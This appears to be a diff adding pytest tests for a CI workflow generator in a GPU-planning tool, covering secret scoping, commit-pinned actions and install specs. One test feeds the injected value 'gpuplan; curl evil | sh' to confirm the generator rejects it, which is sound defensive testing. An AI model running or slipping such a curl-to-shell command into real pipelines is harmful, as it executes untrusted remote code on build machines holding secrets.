@@ -1,0 +1,85 @@
+"""The CI workflow: secrets scoped to each job's environment, actions pinned by commit, the
+preview creating the stack it previews, and the gpuplan the user runs installed."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+import yaml
+
+from infra.workflow import installed_spec, render_workflow
+from planner.errors import UsageError
+
+DEPLOY_ONLY = {"RUNPOD_API_KEY", "VAST_API_KEY", "HETZNER_ROBOT_PASSWORD", "HF_TOKEN"}
+
+
+def flow(install: str = "gpuplan==0.2.0") -> dict:
+    return yaml.safe_load(render_workflow("infra/llm", "prod", install))
+
+
+def test_secrets_live_in_the_jobs_environments_not_the_workflow():
+    f = flow()
+    assert not any("secrets." in str(v) for v in f["env"].values())
+    check, deploy = f["jobs"]["check"], f["jobs"]["deploy"]
+    assert (check["environment"], deploy["environment"]) == ("preview", "production")
+    assert set(deploy["env"]) >= DEPLOY_ONLY
+    assert not DEPLOY_ONLY & set(check["env"])  # pull requests never see deploy-only keys
+    assert f["permissions"] == {"contents": "read"}
+
+
+def test_actions_are_pinned_by_commit():
+    f = flow()
+    uses = [s["uses"] for job in f["jobs"].values() for s in job["steps"] if "uses" in s]
+    assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses)
+
+
+def test_preview_creates_the_stack_before_the_first_deploy():
+    steps = flow()["jobs"]["check"]["steps"]
+    [preview] = [s for s in steps if s.get("with", {}).get("command") == "preview"]
+    assert preview["with"]["upsert"] is True
+
+
+def test_ci_installs_what_is_given_quoted():
+    f = flow("gpuplan @ git+https://github.com/example/gpuplan@0123456789abcdef")
+    runs = [s.get("run", "") for s in f["jobs"]["deploy"]["steps"]]
+    assert "pip install 'gpuplan @ git+https://github.com/example/gpuplan@0123456789abcdef'" in runs
+    with pytest.raises(UsageError, match="pip requirement"):
+        render_workflow("infra/llm", "prod", "gpuplan; curl evil | sh")
+
+
+class FakeDist:
+    def __init__(self, direct_url: dict | None) -> None:
+        self.version = "0.1.0"
+        self.direct_url = direct_url
+
+    def read_text(self, name: str) -> str | None:
+        return json.dumps(self.direct_url) if self.direct_url is not None else None
+
+
+@pytest.mark.parametrize(
+    ("direct_url", "expected"),
+    [
+        (None, "gpuplan==0.1.0"),  # from an index: that release
+        (
+            {"url": "https://github.com/o/gpuplan", "vcs_info": {"vcs": "git", "commit_id": "abc"}},
+            "gpuplan @ git+https://github.com/o/gpuplan@abc",
+        ),
+    ],
+)
+def test_installed_spec_names_what_the_user_runs(monkeypatch, direct_url, expected):
+    from importlib import metadata
+
+    monkeypatch.setattr(metadata, "distribution", lambda name: FakeDist(direct_url))
+    assert installed_spec() == expected
+
+
+def test_a_local_folder_install_needs_an_explicit_ci_install(monkeypatch):
+    from importlib import metadata
+
+    local = {"url": "file:///home/me/gpuplan", "dir_info": {"editable": True}}
+    monkeypatch.setattr(metadata, "distribution", lambda name: FakeDist(local))
+    with pytest.raises(UsageError, match="local folder") as err:
+        installed_spec()
+    assert "[ci] install" in (err.value.hint or "")
